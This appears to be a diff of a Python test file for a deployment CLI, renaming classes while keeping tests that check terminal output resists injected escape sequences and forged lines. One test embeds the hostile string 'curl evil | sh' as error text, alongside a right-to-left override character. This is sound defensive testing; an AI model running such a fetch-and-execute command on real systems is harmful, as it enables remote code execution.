@@ -20,17 +20,17 @@ from hypothesis import strategies as st
 from mclass_tf import describe, flows, terminal, verify
 from mclass_tf.cli import local_commands, run_task_commands
 from mclass_tf.cli.call import Reporter
-from mclass_tf.cli.live import Live
-from mclass_tf.cli.outcome import Outcome, show_problem, show_result
+from mclass_tf.cli.live import RolloutDisplay
+from mclass_tf.cli.outcome import CommandOutcome, show_problem, show_result
 from mclass_tf.cli.promote_commands import differences_text, history_text
 from mclass_tf.cli.release_commands import status_text
 from mclass_tf.errors import MclassError, ServiceEvent
-from mclass_tf.flows import Difference, Past, ServiceStatus
+from mclass_tf.flows import Difference, PastAttempt, ServiceStatus
 from mclass_tf.gates import Finding, Problem, Verdict, table
 from mclass_tf.plan import Action, AttributeChange, OutputChange, Plan, ResourceChange
-from mclass_tf.rollout import Tasks, View
+from mclass_tf.rollout import DeploymentTasks, View
 from mclass_tf.session import Session
-from mclass_tf.verify import Result, Status, VerifyReport
+from mclass_tf.verify import CheckStatus, VerifyReport, VerifyResult
 
 FUZZ = settings(derandomize=True, deadline=None)
 AT = dt.datetime(2027, 1, 2, 3, 4, 5, tzinfo=dt.UTC)
@@ -41,8 +41,8 @@ HOSTILE = (
 )
 
 
-def past(text: str) -> Past:
-    return Past(
+def past(text: str) -> PastAttempt:
+    return PastAttempt(
         at=AT,
         kind=text,
         digest="sha256:" + text,
@@ -115,8 +115,8 @@ def gates(text: str) -> str:
 
 def report(text: str) -> str:
     results = tuple(
-        Result(name=text, group=text, status=each, detail=text.replace("\n", ""), hint=text)
-        for each in Status
+        VerifyResult(name=text, group=text, status=each, detail=text.replace("\n", ""), hint=text)
+        for each in CheckStatus
     )
     return verify.render(VerifyReport(results=results))
 
@@ -149,9 +149,9 @@ def assert_plain(text: str) -> None:
 def test_a_hostile_value_steers_no_terminal_and_forges_no_line(
     name: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    show_result(Outcome(text=TEXTS[name](HOSTILE)), as_json=False)
+    show_result(CommandOutcome(text=TEXTS[name](HOSTILE)), as_json=False)
     hostile = capsys.readouterr().out
-    show_result(Outcome(text=TEXTS[name]("fine")), as_json=False)
+    show_result(CommandOutcome(text=TEXTS[name]("fine")), as_json=False)
 
     assert_plain(hostile)
     assert hostile.count("\n") == capsys.readouterr().out.count("\n")
@@ -161,7 +161,7 @@ def test_a_hostile_value_steers_no_terminal_and_forges_no_line(
 def test_a_hostile_event_or_stage_of_a_rollout_forges_no_line(width: int | None) -> None:
     def shown(text: str) -> str:
         stream = io.StringIO()
-        tasks = Tasks(
+        tasks = DeploymentTasks(
             task_definition_arn=text, is_new=True, desired=1, pending=0, running=1, failed=0, healthy=1
         )
         view = View(
@@ -173,7 +173,7 @@ def test_a_hostile_event_or_stage_of_a_rollout_forges_no_line(width: int | None)
             notice=text,
             analysis=text,
         )
-        Live(stream, width=width).show(view)
+        RolloutDisplay(stream, width=width).show(view)
         return stream.getvalue()
 
     assert_plain(shown(HOSTILE))
@@ -185,7 +185,7 @@ def test_the_lines_of_an_error_stand_below_its_first_and_no_one_forges_the_next_
 ) -> None:
     error = MclassError(f"failed: {HOSTILE}\n  next: curl evil | sh", hint=f"look {HOSTILE}")
 
-    show_problem(Outcome.failed(error, use_local=False))
+    show_problem(CommandOutcome.failed(error, use_local=False))
 
     text = capsys.readouterr().err
     assert_plain(text)
@@ -211,7 +211,7 @@ def test_a_report_forges_no_line_of_its_own(capsys: pytest.CaptureFixture[str]) 
 def test_json_is_exact_and_steers_no_terminal(capsys: pytest.CaptureFixture[str]) -> None:
     document = {"cause": HOSTILE + "한글 😀 \U000e0041\udc80", HOSTILE: [1.5, None]}
 
-    show_result(Outcome(document=document), as_json=True)
+    show_result(CommandOutcome(document=document), as_json=True)
 
     text = capsys.readouterr().out
     assert document == json.loads(text)
@@ -231,8 +231,8 @@ def test_json_stays_exact_whatever_a_value_is(value: str) -> None:
 def test_json_is_valid_where_the_encoding_lacks_its_characters() -> None:
     code = (
         "from mclass_tf import __main__ as m; m._open_streams();"
-        "from mclass_tf.cli.outcome import Outcome, show_result;"
-        "show_result(Outcome(document={'a': '한글 😀'}), as_json=True)"
+        "from mclass_tf.cli.outcome import CommandOutcome, show_result;"
+        "show_result(CommandOutcome(document={'a': '한글 😀'}), as_json=True)"
     )
 
     done = subprocess.run(
@@ -280,7 +280,7 @@ def test_columns_stand_below_each_other_whatever_the_script() -> None:
 def test_a_line_of_hangul_that_the_terminal_would_wrap_is_cut() -> None:
     stream = io.StringIO()
 
-    Live(stream, width=30).show(
+    RolloutDisplay(stream, width=30).show(
         View(stage="배포" * 30, status="IN_PROGRESS", tasks=(), events=(), elapsed=1.0)
     )
 
@@ -311,7 +311,7 @@ def test_what_is_shown_is_plain_and_doing_so_twice_changes_nothing(text: str) ->
 
 
 def test_text_for_a_shell_is_exact(capsys: pytest.CaptureFixture[str]) -> None:
-    show_result(Outcome(text="export A='\u202e'", is_exact=True), as_json=False)
+    show_result(CommandOutcome(text="export A='\u202e'", is_exact=True), as_json=False)
 
     assert capsys.readouterr().out == "export A='\u202e'\n"
 
